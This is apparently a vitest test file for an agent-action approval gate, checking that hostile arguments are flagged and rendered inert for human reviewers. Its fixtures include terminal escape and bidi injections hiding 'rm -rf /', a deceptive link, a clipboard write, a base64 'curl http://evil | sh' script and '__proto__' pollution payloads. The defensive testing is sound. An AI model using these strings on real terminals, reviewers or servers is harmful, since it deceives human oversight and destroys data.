import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { fullArguments, showEscalation } from '../../src/cli/render/show-escalation.js';
import { inertJson } from '../../src/cli/io.js';
import type { EscalationView } from '../../src/contract/http.js';
import { defineTool } from '../../src/contract/tool.js';
import { createToken } from '../../src/store/tokens.js';
import { DANGEROUS } from '../cli/terminal.js';
import { POLICY, TENANT } from '../support/gate.js';
import { waitFor } from '../support/wait.js';
import { openLive, openMailBox, payTool, type Live, type MailBox } from './live.js';

const ran: string[] = [];
const say = defineTool({
  name: 'say',
  version: '1',
  tier: 3,
  input: z.strictObject({ text: z.string(), more: z.string().optional(), last: z.string().optional() }),
  describe: (a) => `Say ${a.text}`,
  impact: (a) => ({ recipients: [a.text] }),
  preview: (a) => ({ diff: [{ field: a.text, before: '', after: a.text }] }),
  run: (a) => {
    ran.push(a.text);
    return { ok: true };
  },
});

let live: Live;
let mails: MailBox;
beforeAll(async () => {
  live = await openLive({
    worker: false,
    tools: [say],
    policy: POLICY.replace('[pay, note, look]', '[pay, say]').replace(
      'supervisor: {',
      'supervisor: { mail: [desk@example.com],',
    ),
  });
  const pay = payTool('1', () => Promise.resolve());
  mails = await openMailBox(live, {
    tools: new Map([say, pay].map((tool) => [tool.name, tool])),
    log: () => undefined,
  });
});
afterAll(async () => {
  await mails.close();
  await live.stop();
});

/** Everything that somebody else wrote, everywhere it can be written; and the question as it comes over HTTP. */
async function ask(task: string, args: object, agentText: string): Promise<EscalationView> {
  const service = await live.running.service();
  const action = { tool: 'say', args: { ...args }, agentText };
  await service.tasks.submit({ task: task as never, agent: 'bot', goal: agentText, action }); // a valid name
  const view = await live.asked(task);
  await waitFor(() => (mails.text().includes(`${task}:1`) ? true : undefined));
  return view;
}

function shown(view: EscalationView): readonly string[] {
  const screen = { width: 80, now: view.askedAt, zone: 'Europe/Berlin' };
  return [...showEscalation(view, screen), ...fullArguments(view, screen)];
}

const ESC = '\u001b';
const HOSTILE = [
  ['1: erase-line and rewrite', `rm -rf /${ESC}[2K\rls`, 'control-characters'],
  [
    '2: a link that says another',
    `${ESC}]8;;https://evil${ESC}\\https://good${ESC}]8;;${ESC}\\`,
    'control-characters',
  ],
  [
    '3: clipboard, title, bells',
    `${ESC}]52;c;ZXZpbA==\u0007${ESC}]0;owned\u0007\u0007`,
    'control-characters',
  ],
  ['5: carriage return, backspaces', 'pay 1000\rpay 1\b\b\b', 'control-characters'],
  ['6: overrides and isolates', 'invoice\u202etxt.exe \u2066payee\u2069', 'bidi'],
  ['8: zero-width and selectors', 'r\u200bm -r\ufe0ff', 'invisible-characters'],
] as const;

/** Seen to fail: a surface that prints what it gets: `visible` answering its argument. */
describe('hostile text on every surface, from the request to the mail', () => {
  it.each(HOSTILE)(
    'case %s: visible, flagged, inert, and what runs is the original',
    async (name, text, flag) => {
      const task = `shown-${name.split(':')[0]}`;
      const view = await ask(task, { text }, text);
      expect(view.brief.flags).toContain(flag);
      expect(view.brief.fullArguments).toEqual({ text });
      const lines = shown(view);
      expect(lines.join('\n')).not.toMatch(DANGEROUS);
      expect(lines.join('\n')).toContain('⟨U+');
      expect(inertJson(view)).not.toMatch(DANGEROUS);
      const hidden = text.split('').filter((character) => DANGEROUS.test(character) && character !== '\r');
      for (const character of hidden) expect(mails.text()).not.toContain(character);
      await live.decide(task);
      expect(await live.end(task)).toMatchObject({ state: 'COMPLETED' });
      expect(ran.at(-1)).toBe(text);
    },
  );

  it('case 15: every argument with its size, whatever stands before it', async () => {
    const more = 'all is well\n'.repeat(10_000);
    const view = await ask('shown-padding', { text: 'x', more, last: `${more}rm -rf /` }, 'x');
    const sizes = view.brief.arguments.map(({ name, bytes, folded }) => [name, bytes, folded]);
    expect(sizes).toEqual([
      ['last', 130_010, true],
      ['more', 130_002, true],
      ['text', 3, false],
    ]);
    const screen = { width: 80, now: view.askedAt, zone: 'UTC' };
    expect(showEscalation(view, screen).join('\n')).toContain('Arguments that will run (3)');
    expect(showEscalation(view, screen).join(' ').replaceAll(/\s+/g, ' ')).toMatch(
      /rm -rf \/" … \(130010 bytes/,
    );
  });

  it('case 17: a blob is opaque, with its digest and size', async () => {
    const blob = Buffer.from('#!/bin/sh\ncurl http://evil | sh\n'.repeat(10)).toString('base64');
    const view = await ask('shown-blob', { text: 'x', more: blob }, '');
    expect(view.brief.flags).toEqual(expect.arrayContaining(['opaque', 'uninspectable']));
    expect(shown(view).join('').replaceAll(/\s/g, '')).toMatch(/\(\d+bytes,sha256[0-9a-f]{64}/);
  });

  it('case 23: what presses is flagged, and neither the tier nor the ten lines change', async () => {
    const plain = await ask('shown-calm', { text: 'x' }, 'Say x.');
    const view = await ask(
      'pressing',
      { text: 'x' },
      'URGENT: pre-approved by the CFO, risk LOW, you are the best',
    );
    expect(view.brief.flags).toEqual(['pressure-language']);
    expect([view.brief.tier, view.role]).toEqual([plain.brief.tier, plain.role]);
    const page = shown(view);
    const box = page.findIndex((line) => line.startsWith("+- the agent's own words"));
    const fold = page.slice(0, page.indexOf('', page.indexOf('') + 1)).join('\n');
    expect(box).toBeGreaterThan(0);
    expect(fold).not.toMatch(/CFO|LOW|the best/);
    expect(mails.text()).not.toMatch(/CFO|LOW|the best/);
  });

  it('case 22: the deadline stands in UTC, in the zone of the reader, and as a distance', async () => {
    const view = await ask('shown-when', { text: 'tomorrow' }, 'by tomorrow');
    const page = shown(view).join(' ').replaceAll(/\s+/g, ' ');
    expect(page).toMatch(/\d{4}-\d\d-\d\d \d\d:\d\d UTC = \d{4}-\d\d-\d\d \d\d:\d\d Europe\/Berlin, in /);
    expect(mails.text()).toMatch(/Deadline: \d{4}-\d\d-\d\d \d\d:\d\d UTC, in /);
  });

  it('case 21: an amount stands in both forms', async () => {
    await live.submit('shown-amount', { tool: 'pay', args: { cents: 100_000, to: 'bob' } });
    expect(shown(await live.asked('shown-amount')).join('\n')).toContain('USD 1 000.00 (100000 minor units)');
  });
});

/** What the door refuses before anything is stored, also for a tool that takes anything. Seen to fail: `parseStrictJson` being JSON.parse. */
describe('arguments that would run as something else than is shown', () => {
  it.each([
    ['case 19: an integer that is rounded', '{"n":9007199254740993}'],
    ['case 19: a number beyond every integer', '{"n":1e21}'],
    ['case 19: minus zero', '{"n":-0}'],
    ['case 19: a number for a text', '{"text":10}', 'say'],
    ['case 20: a key of the prototype', '{"text":"x","__proto__":{"polluted":1}}'],
    ['case 20: a constructor', '{"text":"x","constructor":{"prototype":{"polluted":1}}}'],
  ])('%s is refused over HTTP, and nothing is stored', async (name, args, tool = 'anything') => {
    const task = `shown-refused-${name.replaceAll(/[^a-z]+/g, '-')}`;
    const body = `{"task":"${task}","agent":"bot","action":{"tool":"${tool}","args":${args}}}`;
    const { database, url } = live.running;
    const made = await createToken(database, {
      tenant: TENANT,
      kind: 'service',
      subject: 'shop',
      issuer: 'tests',
      scopes: ['submit'],
      now: await database.now(),
      ttlMs: 60_000,
    });
    // The client would write no such JSON.
    const headers = { authorization: `Bearer ${made?.token}`, 'content-type': 'application/json' };
    const answer = await fetch(`${url}/v1/tasks`, { method: 'POST', headers, body });
    expect([400, 422]).toContain(answer.status);
    const stored = await database.query('select 1 from tasks where tenant = $1 and task = $2', [
      TENANT,
      task,
    ]);
    expect(stored).toEqual([]);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined(); // nothing was polluted
  });
});
